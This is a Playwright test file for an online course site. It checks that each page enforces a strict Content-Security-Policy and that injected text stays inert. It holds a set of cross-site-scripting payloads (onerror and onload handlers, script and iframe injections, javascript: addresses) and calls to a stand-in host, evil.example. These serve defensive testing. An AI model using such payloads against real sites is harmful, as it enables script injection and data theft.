"""The strict Content-Security-Policy of every page, and what it and the scripts make of text that tries to be code."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from _ext import csp, edition
from _ext.exercise import read

from .exercise_page import LESSON, ROOT, ExercisePage
from .progress_page import KEY, answer_all, stored

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)" />')
WATCH = """
window.violations = [];
addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample, target }) => {
  // Chromium gives a style to text that is typed over a selection. The policy drops it, and the editor draws the line anew.
  if (violatedDirective === "style-src-attr" && target.closest?.(".cm-content")) return;
  violations.push(`${violatedDirective} ${blockedURI} ${sample}`);
});
window.executed = 0;
window.alert = () => { window.executed += 1; };
"""
# Each would raise `executed` if any part of the page took it for code, or leave its marks in the page.
INJECTIONS = {
    "image": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "drawing": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "ends an attribute": "\" autofocus onfocus=alert(1) x=\"' onfocus='alert(1)",
    "ends a script": "</script></style></textarea></title><script>alert(1)</script>",
    "an address": "javascript:alert(1)",
    "a frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "a style": "<style>*{display:none!important}</style><b style='position:fixed;inset:0'>over</b>",
    "a form": "<base href=//evil.example/><form action=//evil.example><button>Run</button></form>",
}
EVERY = pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
# What an injection would leave behind: elements that no page has, or that only it could have brought.
MARKS = (
    "iframe, base, .bd-article style, img[src=x], [onerror], [onload], [onfocus], form[action*=evil], [style*=fixed], "
    "a[href^='javascript:']"
)


def directives(policy: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (each.split() for each in policy.split("; "))}


def test_every_page_has_the_policy_before_all_that_it_rules(html: Path) -> None:
    """In each page the policy comes before any script, style or link, and allows no code but the book's own files."""
    pages = edition.pages(html)
    assert len(pages) > 5
    for path in pages:
        text = path.read_text(encoding="utf-8")
        (found,) = POLICY.finditer(text)
        assert not re.search(r"<(script|style|link|body)\b", text[: found.start()]), path
        ruled = directives(found[1])
        assert ruled["default-src"] == ["'self'"]
        assert ruled["script-src"] == ["'self'", "'wasm-unsafe-eval'"], path
        assert ruled["style-src"] == ["'self'"], path
        assert ruled["object-src"] == ruled["frame-src"] == ["'none'"]
        assert ruled["base-uri"] == ruled["form-action"] == ["'self'"]
        assert ruled["worker-src"] == ["'self'", "blob:"]
        assert "'unsafe-inline'" not in found[1]
        assert "'unsafe-eval'" not in ruled["script-src"]


def test_connections_are_those_that_conf_names(html: Path) -> None:
    """connect-src has the book's own origin and what conf.py configures, nothing else."""
    settings: dict[str, Any] = {"__file__": str(ROOT / "conf.py")}
    exec((ROOT / "conf.py").read_text(encoding="utf-8"), settings)
    wanted = ["'self'", *settings.get("book_connect", [])]
    for path in edition.pages(html):
        (policy,) = POLICY.findall(path.read_text(encoding="utf-8"))
        assert directives(policy)["connect-src"] == wanted


def test_inline_code_of_a_theme_is_allowed_by_its_digest_alone() -> None:
    """A theme's inline script and style get their digests, data gets none, and another script stays forbidden."""
    page = (
        '<meta charset="utf-8"><script>one()</script><script type="application/json">{}</script>'
        '<style>a{}</style><script src="b.js"></script>'
    )
    ruled = directives(csp.policy(page, ["https://storage.example"]))
    assert ruled["script-src"] == [
        "'self'",
        "'wasm-unsafe-eval'",
        "'sha256-HR7iaask9daLMRRskMI++QeJtjWDOjyPA6lGzYGzKW4='",
    ]
    assert len(ruled["style-src"]) == 2
    assert ruled["connect-src"] == ["'self'", "https://storage.example"]


@pytest.fixture
def watched(context: BrowserContext) -> Page:
    """A page that keeps count of what its policy had to stop, and of injected code that ran."""
    context.add_init_script(WATCH)
    return context.new_page()


@pytest.fixture
def lesson(watched: Page, site: str) -> Page:
    watched.goto(f"{site}{LESSON}.html")
    return watched


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("violations")
    return found


def assert_unharmed(page: Page) -> None:
    """Nothing injected ran, was stopped at the last moment by the policy, became part of the page, or moved it."""
    page.wait_for_timeout(200)
    assert page.evaluate("executed") == 0
    assert violations(page) == []
    assert page.locator(MARKS).count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    expect(page.locator("h1")).to_be_visible()


def scroll_through(page: Page) -> None:
    page.evaluate(
        """async () => {
          for (let y = 0; y < document.documentElement.scrollHeight; y += 500) {
            scrollTo(0, y);
            await new Promise((next) => setTimeout(next, 30));
          }
        }"""
    )


def test_a_lesson_from_start_to_end_breaks_no_rule(lesson: Page) -> None:
    """Figures, a typed name, the editor, Python, questions, feedback: the policy has nothing to stop."""
    scroll_through(lesson)
    lesson.locator("[data-figure][data-taken]").first.wait_for()
    name = lesson.locator(".fig-name input").first
    name.fill("ada")
    name.press("Enter")
    exercise = ExercisePage(lesson)
    exercise.block.scroll_into_view_if_needed()
    exercise.run("print(1)\nraise ValueError('no')")
    exercise.run(read(ROOT / "book" / f"{LESSON}.py").solution.rstrip())
    expect(exercise.verdict).to_have_attribute("data-passed", "true")
    answer_all(lesson)
    lesson.locator(".lesson-feedback button").nth(1).click()
    lesson.locator("#feedback-note").fill("Not all.")
    lesson.locator(".theme-switch").click()
    assert lesson.evaluate("getComputedStyle(document.querySelector('.cm-content')).whiteSpace") != "normal"
    assert violations(lesson) == []


@pytest.mark.parametrize("name", ["index", "source", "ladder", "watch-it-learn", "offline", "search.html?q=attention"])
def test_no_page_breaks_a_rule(watched: Page, site: str, name: str) -> None:
    """The other pages, with search and live training, give the policy nothing to stop."""
    watched.goto(f"{site}{name}" if "?" in name else f"{site}{name}.html")
    scroll_through(watched)
    if "?" in name:
        expect(watched.locator("#search-results li").first).to_be_visible()
    if name == "watch-it-learn":
        watched.locator("[data-do=start]").click()
        expect(watched.locator("[data-number=step]")).not_to_have_text("0 of 1,000")
    watched.wait_for_timeout(500)
    assert violations(watched) == []


ATTEMPTS = """() => new Promise((done) => setTimeout(async () => {
  // In a task of the page's own: what the debugger evaluates may do more.
  const add = (html) => {
    const box = document.createElement("div");
    box.innerHTML = html;
    document.body.append(box);
    return box;
  };
  add("<img src=x onerror=alert(1)>");
  const script = document.createElement("script");
  script.textContent = "alert(1)";
  document.body.append(script);
  const foreign = document.createElement("script");
  foreign.src = "https://evil.example/x.js";
  document.body.append(foreign);
  add("<b style='color:red'>x</b><style>b{color:red}</style><object data='x'></object><iframe src='x'></iframe>");
  try { setTimeout("alert(1)", 0); } catch {}
  try { new Function("alert(1)")(); } catch {}
  await fetch("http://evil.example/").catch(() => {});
  add("<form action='https://evil.example/'></form>").firstChild.submit();
  setTimeout(done, 300);
}))"""


def test_the_policy_is_in_force(browser: Browser, site: str) -> None:
    """Inline code, text as code, foreign scripts, frames, forms and requests of a page are stopped, whoever tries."""
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(f"{site}{LESSON}.html")
    page.evaluate(ATTEMPTS)
    assert page.evaluate("executed") == 0
    stopped = {violation.split()[0] for violation in violations(page)}
    assert stopped == {
        "script-src-attr",
        "script-src-elem",
        "script-src",
        "style-src-attr",
        "style-src-elem",
        "object-src",
        "frame-src",
        "connect-src",
        "form-action",
    }
    context.close()


@EVERY
def test_names_typed_into_figures_stay_text(lesson: Page, text: str) -> None:
    """Whatever is typed as a name is refused in words, and the figure stays as it was."""
    name = lesson.locator(".fig-name input").first
    name.scroll_into_view_if_needed()
    lesson.locator("[data-figure][data-taken]").first.wait_for()
    before = lesson.locator("[data-figure] .fig-wide").last.inner_html()
    name.fill(text)
    name.press("Enter")
    expect(name).to_have_attribute("aria-invalid", "true")
    assert lesson.locator("[data-figure] .fig-wide").last.inner_html() == before
    assert_unharmed(lesson)


def test_a_list_of_names_stays_text(watched: Page, site: str) -> None:
    """Names to learn from that look like code are learned, sampled and named like any others."""
    watched.goto(f"{site}watch-it-learn.html")
    watched.locator("[data-do=start]").click()
    expect(watched.locator("[data-number=step]")).not_to_have_text("0 of 1,000")
    watched.locator("#live-names").fill("\n".join([*INJECTIONS.values(), *(f"<b>{letter}" for letter in "abcdefgh")]))
    watched.locator("[data-do=use-list]").click()
    skip = watched.locator("[data-do=skip-bad]")
    expect(skip).to_be_visible()
    assert_unharmed(watched)
    skip.click()
    expect(watched.locator("#live-list-says")).to_contain_text("Your list is ready")
    watched.locator("[data-do=step]").click()
    expect(watched.locator("[data-number=step]")).to_have_text("1 of 1,000")
    assert_unharmed(watched)


def test_what_a_program_prints_and_raises_stays_text(lesson: Page) -> None:
    """Output, errors, file names and repr of a program that looks like markup are shown as they are."""
    exercise = ExercisePage(lesson)
    text = "\n".join(INJECTIONS.values())
    exercise.run(f"text = {text!r}\nprint(text)\nclass E(Exception): pass\nE.__name__ = text\nraise E(text)")
    expect(exercise.output).to_contain_text(INJECTIONS["image"])
    expect(exercise.verdict).to_contain_text(INJECTIONS["script"])
    assert_unharmed(lesson)


def test_what_a_check_got_stays_text(lesson: Page) -> None:
    """A wrong result that looks like markup is shown beside the expected one as it is."""
    exercise = ExercisePage(lesson)
    solution = read(ROOT / "book" / f"{LESSON}.py").solution.rstrip()
    lies = "class Lie:\n    def __repr__(self): return " + repr(INJECTIONS["image"]) + "\n"
    names = re.findall(r"^(\w+) = |^def (\w+)", solution, re.MULTILINE)
    taken = "\n".join(f"{a or b} = Lie()" for a, b in names)
    exercise.run(f"{solution}\n{lies}{taken}")
    expect(exercise.verdict).to_have_attribute("data-passed", "false")
    assert_unharmed(lesson)


@EVERY
def test_notes_stay_text(lesson: Page, text: str) -> None:
    """A note on a lesson is kept and shown as it was written, also on the next visit."""
    lesson.locator(".lesson-feedback button").nth(1).click()
    area = lesson.locator("#feedback-note")
    area.fill(text)
    area.blur()
    lesson.reload()
    expect(area).to_have_value(text)
    assert stored(lesson)["clear"]["note"] == text
    assert_unharmed(lesson)


@EVERY
def test_a_note_to_be_sent_is_one_address(watched: Page, text: str, site: str) -> None:
    """Where the author takes notes, the link has the note in its query alone, and leads nowhere else."""

    def with_feedback(route: Any) -> None:
        body = route.fetch().text().replace('"issues":""', '"issues":"https://code.example/issues/new"')
        route.fulfill(body=body, content_type="text/html")

    watched.route(f"**/{LESSON}.html", with_feedback)
    watched.goto(f"{site}{LESSON}.html")
    watched.locator(".lesson-feedback button").nth(1).click()
    watched.locator("#feedback-note").fill(text)
    link = watched.locator(".feedback-send a")
    expect(link).to_have_count(1)
    address = link.evaluate("link => ({ origin: link.origin, path: link.pathname, hash: link.hash })")
    assert address == {"origin": "https://code.example", "path": "/issues/new", "hash": ""}
    assert_unharmed(watched)


def poison(text: str) -> dict[str, Any]:
    """A stored state in which every text that a page could show is an injection."""
    return {
        "version": 1,
        "lessons": {
            LESSON: {
                "answers": {text: {text: 1}, "__proto__": {"x": 1}},
                "known": {"value": True, "at": 1},
                "clear": {"value": "no", "note": text, "at": 1, "others": [text, text + "2"]},
                text: text,
            },
            text: {"learned": 1},
            "__proto__": {"learned": 1},
            "constructor": {"passed": 1},
        },
        text: text,
    }


@EVERY
@pytest.mark.parametrize("name", [LESSON, "index"])
def test_stored_and_synced_states_stay_data(watched: Page, site: str, text: str, name: str) -> None:
    """What another device, another tab or a bad extension put into the store is shown as text or set aside."""
    watched.goto(f"{site}{name}.html")
    state = json.dumps(poison(text))
    watched.evaluate("([key, state]) => localStorage.setItem(key, state)", [f"{KEY}a", state])
    watched.evaluate("localStorage.setItem('mode', '\\\"><img src=x onerror=alert(1)>')")
    watched.reload()
    assert_unharmed(watched)
    # And from another tab while this one is open.
    watched.evaluate("dispatchEvent(new StorageEvent('storage', { key: null }))")
    assert_unharmed(watched)
    assert watched.evaluate("({}).learned") is None
    assert watched.evaluate("({}).x") is None


@EVERY
def test_imported_files_stay_data(lesson: Page, tmp_path: Path, text: str) -> None:
    """A file in which every text is an injection is refused or shown as text."""
    for name, progress in {
        "good": {"version": 1, "lessons": {LESSON: poison(text)["lessons"][LESSON]}},
        "bad": poison(text),
    }.items():
        file = tmp_path / f"{name}.json"
        programs = {LESSON: {"seen": {"other": 1}, "texts": [{"by": "other", "at": 1, "text": text}]}}
        content = {"format": "microgpt-line-by-line progress", "version": 1, "progress": progress, "programs": programs}
        file.write_text(json.dumps(content))
        lesson.locator(".keep-button").click()
        lesson.locator("#keep-file").set_input_files(file)
        expect(lesson.locator(".keep-dialog .keep-told").first).not_to_be_empty()
        lesson.keyboard.press("Escape")
        lesson.reload()
        assert_unharmed(lesson)


@EVERY
def test_fragments_and_queries_of_an_address_stay_data(watched: Page, site: str, text: str) -> None:
    """Whatever stands behind # or ? in an address, pages open as they should and search shows it as text."""
    for address in (
        f"{LESSON}.html#",
        "source.html#",
        "index.html#",
        "offline.html#",
        "index.html?x=",
        "search.html?q=",
    ):
        watched.goto("about:blank")
        watched.goto(site + address + text)
        assert_unharmed(watched)
    watched.goto("about:blank")
    watched.goto(f"{site}offline.html#%E0%A4%A")  # no text in any encoding
    assert_unharmed(watched)


def test_a_program_from_the_store_stays_text(watched: Page, site: str) -> None:
    """A stored program that looks like markup comes back into the editor as it is, and is not run by itself."""
    watched.goto(f"{site}{LESSON}.html")
    exercise = ExercisePage(watched)
    text = "\n".join(INJECTIONS.values())
    exercise.write(text)
    watched.reload()
    exercise = ExercisePage(watched)
    exercise.open_editor()
    assert exercise.program() == text
    assert_unharmed(watched)
